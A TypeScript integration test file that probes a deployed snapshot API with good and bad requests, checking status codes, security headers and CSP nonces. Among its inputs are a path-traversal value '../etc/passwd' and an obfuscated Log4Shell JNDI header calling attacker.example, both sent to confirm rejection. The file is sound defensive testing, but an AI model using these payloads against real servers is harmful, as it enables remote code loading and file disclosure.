import { Deployment } from './checks';
import { ApiResponse, Call, call } from './http';
import { expectEqual, expectTrue } from './proofs';
import { SECURITY_HEADERS } from '../../../src/middleware';

function expectSecurityHeaders(response: ApiResponse): void {
  for (const [name, value] of Object.entries(SECURITY_HEADERS)) {
    expectEqual(response.headers[name.toLowerCase()], value, `${name} of ${response.status}`);
  }
}

/** Calls the API as clients do, good and bad ones. */
export async function proveApi({ aws, outputs, proofs }: Deployment): Promise<void> {
  const callApi = (options: Call) => call(aws.port, outputs.ApiId, outputs.StageName, options);
  const state = { assets: [{ id: 'pump-7', temperature: 71.5 }] };

  await proofs.prove('API', 'a snapshot is stored, signed with the generated secret', async () => {
    const response = await callApi({ method: 'POST', path: '/snapshots', body: JSON.stringify({ twin: 'plant-1', state }) });
    expectEqual(response.status, 201, response.body);
    expectTrue(/^[0-9a-f]{64}$/.test(JSON.parse(response.body).signature), 'the signature is no SHA-256');
    expectSecurityHeaders(response);
  });
  await proofs.prove('API', 'the newest snapshot is read back', async () => {
    const response = await callApi({ path: '/snapshots/plant-1' });
    expectEqual(response.status, 200, response.body);
    expectEqual(JSON.parse(response.body).state, state, 'state');
  });
  await proofs.prove('API', 'an unknown twin gets a 404 with all security headers', async () => {
    const response = await callApi({ path: '/snapshots/nowhere' });
    expectEqual(response.status, 404, response.body);
    expectSecurityHeaders(response);
  });
  await proofs.prove('API', 'an unknown path is rejected by API Gateway, with the security headers', async () => {
    const response = await callApi({ path: '/admin' });
    expectTrue([403, 404].includes(response.status), `status ${response.status}`);
    expectSecurityHeaders(response);
  });
  await proofs.prove('API', 'a request without authorization is rejected, with the security headers', async () => {
    const response = await callApi({ path: '/snapshots/plant-1', signed: false });
    expectEqual(response.status, 403, response.body);
    expectSecurityHeaders(response);
  });
  await proofs.prove('API', 'a body that does not match the schema is rejected before a function runs, whatever its content type',
    async () => {
      const body = JSON.stringify({ twin: '../etc/passwd', state });
      for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded']) {
        const response = await callApi({ method: 'POST', path: '/snapshots', body, headers: { 'content-type': type } });
        expectEqual(response.status, 400, `${type}: ${response.body}`);
        expectSecurityHeaders(response);
      }
    });
  await proofs.prove('API', 'a body over 10 MB is rejected', async () => {
    const response = await callApi({
      method: 'POST',
      path: '/snapshots',
      body: JSON.stringify({ twin: 'plant-1', state: { blob: 'x'.repeat(10 * 1024 * 1024) } }),
    });
    expectEqual(response.status, 413, response.body.slice(0, 200));
  });
  await proofs.prove('API', 'a Log4Shell header is rejected with 400 by the middleware', async () => {
    const response = await callApi({
      path: '/snapshots/plant-1',
      headers: { 'x-api-version': '${${lower:j}ndi:ldap://attacker.example/a}' },
    });
    expectEqual(response.status, 400, response.body);
    expectSecurityHeaders(response);
  });
  await proofs.prove('API', 'the health check responds to anyone, with security headers that its Node.js code does not set', async () => {
    const response = await callApi({ path: '/health', signed: false });
    expectEqual(response.status, 200, response.body);
    expectSecurityHeaders(response);
  });
  await proofs.prove('API', 'Python code that does not set them gets the same headers', async () => {
    const response = await callApi({ path: '/version' });
    expectEqual(response.status, 200, response.body);
    expectEqual(JSON.parse(response.body).version, '1.0.0', 'version');
    expectSecurityHeaders(response);
  });
  await proofs.prove('API', 'the status page allows its own script with a nonce that is new in every response', async () => {
    const nonces = await Promise.all(
      [1, 2].map(async () => {
        const { body, headers } = await callApi({ path: '/status', signed: false });
        const [, nonce] = /script-src 'nonce-([^']+)'/.exec(String(headers['content-security-policy'])) ?? [];
        expectTrue(nonce !== undefined && body.includes(`<script nonce="${nonce}">`), 'the page and its policy have no nonce in common');
        expectTrue(String(headers['permissions-policy']).includes('fullscreen=(self)'), 'fullscreen is not opened');
        return nonce;
      }),
    );
    expectTrue(nonces[0] !== nonces[1], 'both responses have the same nonce');
  });
}
